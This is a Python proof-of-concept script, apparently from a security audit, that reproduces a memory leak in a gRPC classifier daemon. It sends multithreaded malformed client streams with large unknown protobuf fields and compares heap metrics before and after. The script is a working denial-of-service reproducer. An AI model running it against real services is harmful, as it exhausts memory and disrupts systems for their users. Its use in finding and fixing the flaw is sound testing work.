#!/usr/bin/env python3
"""leak31.py DIR N KIB [WHO] [THREADS] (thirty-first pass, finding 2): grpcio's stream_unary on the unary
/classifier.v1.ClassifierService/GetIndexInfo, sending two messages: an empty one, then one unknown
length-delimited field (number 1751) of KIB KiB. grpc-go decodes the second into the same request value and fails
the call 'cardinality violation' before the interceptors, and the daemon's requestCodec.decoded keeps the value
(with its unknown field) for good. N calls from THREADS threads (default 4); WHO's token if given (else none: a
daemon started AUTH=0). Prints the codes and the daemon's heap (go_memstats_heap_alloc_bytes, objects) before
and 3 s after."""
import os, sys, time, threading, urllib.request, grpc
d, n, kib = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
who = sys.argv[4] if len(sys.argv) > 4 and sys.argv[4] != '-' else None; nth = int(sys.argv[5]) if len(sys.argv) > 5 else 4
env = dict(l.strip().split('=', 1) for l in open(d + '/env') if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(d + '/tokens')}
def heap():
    m = urllib.request.urlopen('http://%s/metrics' % env['METRICS']).read().decode().splitlines()
    g = lambda k: float([l for l in m if l.startswith(k + ' ')][0].split()[1])
    return '%d MB, %d objects' % (g('go_memstats_heap_alloc_bytes') / 1048576, g('go_memstats_heap_objects'))
def varint(v):
    b = b''
    while v > 127: b += bytes([v & 127 | 128]); v >>= 7
    return b + bytes([v])
L = kib * 1024; big = varint(1751 << 3 | 2) + varint(L) + os.urandom(L)
opts = [('grpc.ssl_target_name_override', '127.0.0.1'), ('grpc.max_send_message_length', -1)]
if 'CERT' in env: ch = grpc.secure_channel(env['GRPC'], grpc.ssl_channel_credentials(open(env['CERT'], 'rb').read()), opts)
else: ch = grpc.insecure_channel(env['GRPC'], opts)
f = ch.stream_unary('/classifier.v1.ClassifierService/GetIndexInfo')
md = [('authorization', 'Bearer ' + tok[who])] if who else []
codes = {}; lock = threading.Lock(); left = [n]
def run():
    while True:
        with lock:
            if left[0] <= 0: return
            left[0] -= 1
        try: f(iter([b'', big]), metadata=md, timeout=30); c = 'OK'
        except grpc.RpcError as e:
            c = e.code().name
            with lock:
                if c not in codes: print(c, (e.details() or '')[:160], flush=True)
        with lock: codes[c] = codes.get(c, 0) + 1
print('before:', heap(), flush=True); t0 = time.time()
ths = [threading.Thread(target=run) for _ in range(nth)]
for t in ths: t.start()
for t in ths: t.join()
t1 = time.time(); time.sleep(3)
print('%d calls of %d KiB in %.1f s: %s; after: %s' % (n, kib, t1 - t0, codes, heap()), flush=True)
